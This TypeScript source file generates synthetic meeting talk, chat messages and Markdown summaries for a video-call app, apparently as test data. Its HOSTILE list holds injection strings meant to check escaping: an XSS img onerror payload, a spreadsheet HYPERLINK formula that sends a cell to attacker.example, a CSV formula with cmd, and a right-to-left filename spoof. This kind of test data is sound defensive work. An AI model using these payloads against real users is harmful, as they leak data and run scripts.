import { hash, noise, Random } from '../random';
import { HOSTILE_TITLE, personName } from './catalog';
import { type FaultKind, faultsOf } from './faults';
import type { Plan, Stay } from './plan';

/** Something that was said or written. */
export interface Said {
  /** Epoch ms. */
  at: number;
  /** Epoch ms. */
  until: number;
  stay: Stay;
  name: string;
  text: string;
}

const SECOND = 1000;
/** How long one character takes to say, ms. */
const SPEED = 62;

const OPENERS = ['Good morning, can everyone hear me?', 'Hello, I can hear you well.', 'Hi, thanks for joining.'];
const PHRASES = [
  'Let us go through the list from the top.',
  'I have the notes open, one moment.',
  'Could you say that again, please?',
  'Yes, that matches what I have here.',
  'We agreed on the second option last time.',
  'I will send the details after the call.',
  'That was on Tuesday, not on Monday.',
  'She said "tomorrow, at ten", as far as I remember.',
  'The numbers are 12, 15 and 18; the last one is new.',
  'Nothing has changed since then.',
  'Can we move the next appointment by a week?',
  'I would rather keep it as it is.',
  'Let me share my screen for a second.',
  'Right, and what about the follow-up?',
  'That is all from my side.',
  'Who takes this one?',
  'I can do that by Friday.',
  'Let us write that down, so that nobody forgets it.',
];
const WRITTEN = [
  'Link to the notes is in the invitation',
  'I will be five minutes late',
  '+1',
  'Agenda:\n1. last week\n2. open points\n3. "any other business"',
  'Thanks, all',
  'Can you see my screen?',
  'notes, part 2',
];
/** What must never be taken for markup, an icon, a formula, a cue or a change of writing direction. */
const HOSTILE = [
  '<img src=x onerror=alert(1)> says "hello", twice',
  '=HYPERLINK("https://attacker.example/?"&A1,"open")',
  '@SUM(1+1)*cmd',
  '[click](command:workbench.action.quit) $(zap) **bold** `code`',
  'a --> b & <v Nobody>c</v>',
  '\u202Egnp.exe\u202C and \u0007 bell\r\nsecond line\n\n00:00:01,000 --> 00:00:02,000\nnot a cue',
];
/** What the others say while somebody has a problem. */
const COMPLAINTS: Partial<Record<FaultKind, readonly string[]>> = {
  'loss-up': ['You are breaking up.', 'We lost you for a moment.', 'Your voice is choppy.'],
  'loss-down': ['Sorry, I only hear every other word.', 'You all froze for me.'],
  cpu: ['Your picture is stuck.', 'My fan is going mad, sorry.'],
  bandwidth: ['Your picture is all blocks.', 'Maybe turn your camera off?'],
  unplugged: ['Your microphone is gone.', 'We cannot hear you any more.'],
  switch: ['Are you still there?', 'You dropped out for a second.'],
};

/** Everything that is said in a session, to its end: somebody who is there says one sentence after the other. */
export function talkOf(plan: Plan): Said[] {
  const random = new Random(hash(plan.seed, 301));
  const faults = faultsOf(plan);
  const hostile = plan.meeting.title === HOSTILE_TITLE;
  const said: Said[] = [];
  let at = plan.start + random.int(3, 8) * SECOND;
  while (at < plan.end - 3 * SECOND) {
    const here = plan.stays.filter((stay) => stay.join <= at && stay.leave > at + SECOND);
    if (here.length === 0) {
      at += 10 * SECOND;
      continue;
    }
    const fault = faults.find((one) => one.from <= at && one.to > at);
    const others = fault ? here.filter((stay) => stay.index !== fault.stay) : [];
    const complains = others.length > 0 && random.chance(0.4);
    const stay = random.pick(complains ? others : here);
    const complaint = complains && fault ? COMPLAINTS[fault.kind] : undefined;
    const text = random.pick(
      complaint ?? (hostile && random.chance(0.3) ? HOSTILE : said.length < 3 ? OPENERS : PHRASES),
    );
    const until = Math.min(at + 600 + text.length * SPEED, plan.end);
    said.push({ at, until, stay, name: personName(plan.meeting, stay.person), text });
    at = until + Math.floor(random.range(0.2, 9) * SECOND);
  }
  return said;
}

/** Everything that is written in a session. */
export function chatOf(plan: Plan): Said[] {
  const random = new Random(hash(plan.seed, 302));
  const hostile = plan.meeting.title === HOSTILE_TITLE;
  const texts = hostile ? [...WRITTEN, ...HOSTILE] : WRITTEN;
  return Array.from({ length: random.int(2, texts.length) }, (_, index) => {
    const at = plan.start + Math.floor(noise(plan.seed, 303, index) * (plan.end - plan.start) * 0.95) + 2 * SECOND;
    const here = plan.stays.filter(({ join, leave }) => join <= at && leave >= at);
    const stay = random.pick(here.length > 0 ? here : plan.stays);
    // Of the hostile ones each comes once.
    const text = hostile ? (texts[index] as string) : random.pick(texts);
    return { at, until: at, stay, name: personName(plan.meeting, stay.person), text };
  }).sort((a, b) => a.at - b.at);
}

/** A summary as a language model writes them, in Markdown. */
export function summaryOf(plan: Plan): string {
  const said = talkOf(plan);
  const names = [...new Set(said.map(({ name }) => name))];
  const open = said.filter(({ text }) => /\bFriday\b|follow-up|appointment/.test(text)).slice(0, 4);
  return [
    '## Meeting Summary',
    '',
    `${names.join(', ')} talked about ${plan.meeting.title}.`,
    '',
    '### Key Discussion Points',
    '',
    '- Went through the list of last week',
    '- Discussed the next appointment',
    '',
    '### Action Items',
    '',
    ...(open.length > 0 ? open.map(({ name, text }) => `- ${name}: ${text}`) : ['- None']),
    '',
  ].join('\n');
}
